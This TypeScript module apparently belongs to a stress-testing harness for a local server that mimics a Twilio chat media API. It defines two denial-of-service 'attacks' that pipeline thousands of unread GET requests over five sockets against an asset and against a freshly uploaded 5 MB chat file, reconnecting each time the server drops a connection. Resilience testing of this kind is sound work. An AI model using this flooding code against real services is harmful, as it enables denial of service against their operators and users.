import type { Attack, AttackContext } from '../attack'
import { chatService } from '../chatToken'
import { closed, openSocket } from '../httpClient'

const sockets = 5
const pipelined = 4_000
/** The server may have dropped the socket: only a write reveals it. */
const moreEveryMs = 500
const fileBytes = 5_000_000

/** Sends thousands of requests on one socket and never reads a response; repeats when the server closes the socket. */
const pipeline = async ({ target, turn, tally }: AttackContext, path: string) => {
  const request = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${target.port}\r\n\r\n`
  for (;;) {
    await turn()
    const socket = openSocket(target)
    socket.write(request.repeat(pipelined))
    const more = setInterval(() => socket.write(request), moreEveryMs)
    await closed(socket)
    clearInterval(more)
    tally('socket ended by the server')
  }
}
const start = (context: AttackContext, path: string) => () => {
  for (let index = 0; index < sockets; index++) void pipeline(context, path)
}
const rate = { perSecond: 10, atOnce: sockets }

/** 4,000 unread GETs of one asset on each of five sockets. */
export const pipelinedAssets: Attack = {
  title: '5 sockets with 4,000 pipelined, unread GETs of an asset',
  rate,
  prepare: (context) => start(context, context.target.asset),
}

/** The link of a newly uploaded file; valid for five minutes. */
const uploadedFile = async ({ port, chatToken }: AttackContext['target']) => {
  const answer = await fetch(
    `http://127.0.0.1:${port}/mcs/v1/Services/${chatService(chatToken)}/Media?Category=media`,
    {
      method: 'POST',
      headers: { 'x-twilio-token': chatToken, 'content-type': 'image/png' },
      body: Buffer.alloc(fileBytes),
    },
  )
  if (answer.status !== 201) throw new Error(`The upload was answered with ${answer.status}`)
  const { links } = (await answer.json()) as { links: { content_direct_temporary: string } }
  const { pathname, search } = new URL(links.content_direct_temporary)
  return pathname + search
}

/** The same for a chat file, by its signed link. */
export const pipelinedMedia: Attack = {
  title: '5 sockets with 4,000 pipelined, unread GETs of a chat file',
  rate,
  prepare: async (context) => start(context, await uploadedFile(context.target)),
}
